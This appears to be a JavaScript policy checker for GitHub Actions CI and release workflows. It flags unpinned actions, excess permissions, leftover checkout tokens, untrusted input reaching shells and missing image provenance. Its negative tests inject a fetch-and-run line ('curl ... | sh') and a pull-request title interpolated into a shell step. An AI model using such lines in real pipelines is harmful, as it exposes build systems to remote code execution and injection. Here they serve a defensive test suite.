import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { commandFaults } from './pipeline-commands.mjs';
import { readYaml } from './read-yaml.mjs';
import { schemaFaults } from './schemas.mjs';

const CI = '.github/workflows/ci.yml';
const RELEASE = '.github/workflows/release.yml';
const artefacts = ({ root }) => [CI, RELEASE].map((name) => ({ name, value: readYaml(join(root, name)) }));
const spoilt = (change) => (file) => { change(file); return file; };

/** What a pull request or its author can choose, and a shell would run. */
const CHOSEN_BY_OTHERS = /\$\{\{[^}]*(github\.event\.|github\.head_ref|github\.ref_name|inputs\.)[^}]*\}\}/;

function workflowFaults(workflow, context) {
  const faults = [];
  if ('pull_request_target' in (workflow.on ?? {})) faults.push('a pull request would run with the rights of the repository');
  if (JSON.stringify(workflow.permissions) !== '{"contents":"read"}') faults.push('permissions are not "contents: read" for all jobs that do not ask for more');
  if (workflow.concurrency?.group === undefined) faults.push('two runs of the same ref get in each other\'s way (concurrency)');
  for (const [name, job] of Object.entries(workflow.jobs)) faults.push(...jobFaults(job, workflow, context).map((text) => `${name}: ${text}`));
  return faults;
}

function jobFaults(job, workflow, context) {
  const faults = [];
  const writes = Object.entries(job.permissions ?? {}).filter(([, level]) => level === 'write');
  if (typeof job.permissions === 'string') faults.push(`permissions are ${job.permissions}`);
  if (writes.length > 0 && workflow.on?.push?.tags === undefined) faults.push('it may write, and does not run for tags only');
  if (job.uses !== undefined) {
    if (!job.uses.startsWith('./')) faults.push(`${job.uses} is somebody else's workflow`);
    else if (!context.has(job.uses.slice(2))) faults.push(`${job.uses} is not there`);
    return faults;
  }
  if (job['timeout-minutes'] === undefined) faults.push('it may run for as long as it likes (timeout-minutes)');
  if (/latest$/.test(job['runs-on'])) faults.push(`${job['runs-on']} is not pinned`);
  for (const need of [job.needs ?? []].flat()) if (!(need in workflow.jobs)) faults.push(`it needs ${need}, which is not there`);
  for (const step of job.steps) {
    if (step.uses !== undefined && !/^[\w.-]+\/[\w./-]+@([0-9a-f]{40}|v\d+\.\d+\.\d+)$/.test(step.uses)) faults.push(`${step.uses} is not pinned to an exact version or a commit`);
    if (/^actions\/checkout@/.test(step.uses ?? '') && step.with?.['persist-credentials'] !== false) faults.push('the checkout leaves a token behind (persist-credentials)');
    if (CHOSEN_BY_OTHERS.test(step.run ?? '')) faults.push('a shell runs what others can choose; pass it through env');
  }
  return [...faults, ...commandFaults(job.steps.map(({ run }) => run).filter((run) => run !== undefined), context)];
}

/** What a release must say about its image. */
function releaseFaults({ on, jobs }) {
  const faults = [];
  if (on.push?.tags === undefined) faults.push('it does not run for tags');
  const steps = Object.values(jobs).flatMap((job) => job.steps ?? []);
  const build = steps.find(({ uses }) => uses?.startsWith('docker/build-push-action@'))?.with ?? {};
  if (build.sbom !== true) faults.push('the image has no list of its contents (sbom)');
  if (build.provenance !== 'mode=max') faults.push('the image does not say where it came from (provenance)');
  for (const platform of ['linux/amd64', 'linux/arm64']) if (!String(build.platforms).includes(platform)) faults.push(`there is no image for ${platform}`);
  if (!steps.some(({ uses }) => uses?.startsWith('actions/attest-build-provenance@'))) faults.push('nobody signs what is said about the image');
  const image = Object.values(jobs).find((job) => job.steps?.some(({ uses }) => uses?.startsWith('docker/build-push-action@')));
  if (![image?.needs ?? []].flat().some((need) => jobs[need]?.uses === './.github/workflows/ci.yml')) faults.push('an image is made of what was not checked');
  return faults;
}

export const githubSchema = {
  name: 'github-schema',
  needsData: true,
  artefacts,
  faults: (workflow, { dataDir }) => schemaFaults(dataDir, 'python-jsonschema__check-jsonschema/vendor/github-workflows.json', workflow) ?? ['the data folder has no schema of workflows'],
  negatives: [
    { name: 'misspelt key of a job', of: CI, says: /runs_on/, spoil: spoilt(({ jobs }) => { jobs.check.runs_on = 'x'; }) },
    { name: 'event that is none', of: CI, says: /^\/on/, spoil: spoilt((file) => { file.on = { pul_request: { branches: 'main' } }; }) },
    { name: 'permission that is none', of: RELEASE, says: /permissions/, spoil: spoilt(({ jobs }) => { jobs.image.permissions.packages = 'all'; }) },
  ],
};

export const githubPolicy = {
  name: 'github-policy',
  artefacts,
  faults: (workflow, { root }) => [
    ...workflowFaults(workflow, { has: (path) => existsSync(join(root, path)), scripts: JSON.parse(readFileSync(join(root, 'package.json'), 'utf8')).scripts }),
    ...(workflow.name === 'Release' ? releaseFaults(workflow) : []),
  ],
  negatives: [
    ['may write anything', CI, /contents: read/, (file) => { file.permissions = 'write-all'; }],
    ['check that may write', CI, /tags only/, ({ jobs }) => { jobs.check.permissions = { contents: 'write' }; }],
    ['moving action', CI, /actions\/checkout@v4 is not pinned/, ({ jobs }) => { jobs.check.steps[0].uses = 'actions/checkout@v4'; }],
    ['token left behind', CI, /persist-credentials/, ({ jobs }) => { delete jobs.test.steps[0].with; }],
    ['no time-out', CI, /timeout-minutes/, ({ jobs }) => { delete jobs.test['timeout-minutes']; }],
    ['no concurrency', RELEASE, /concurrency/, (file) => { delete file.concurrency; }],
    ['rights for pull requests', CI, /rights of the repository/, ({ on }) => { on.pull_request_target = null; }],
    ['words of others in a shell', CI, /others can choose/, ({ jobs }) => { jobs.test.steps.push({ run: 'echo ${{ github.event.pull_request.title }}' }); }],
    ['script that is not there', CI, /npm run chek/, ({ jobs }) => { jobs.check.steps.push({ run: 'npm run chek' }); }],
    ['runs what it fetches', CI, /runs what it fetches/, ({ jobs }) => { jobs.check.steps.push({ run: 'curl -s https://example.com/x | sh' }); }],
    ['image without provenance', RELEASE, /provenance/, ({ jobs }) => { delete jobs.image.steps.find(({ id }) => id === 'build').with.provenance; }],
    ['image for one architecture', RELEASE, /linux\/arm64/, ({ jobs }) => { jobs.image.steps.find(({ id }) => id === 'build').with.platforms = 'linux/amd64'; }],
    ['image of what was not checked', RELEASE, /not checked/, ({ jobs }) => { delete jobs.image.needs; }],
  ].map(([name, of, says, change]) => ({ name, of, says, spoil: spoilt(change) })),
};
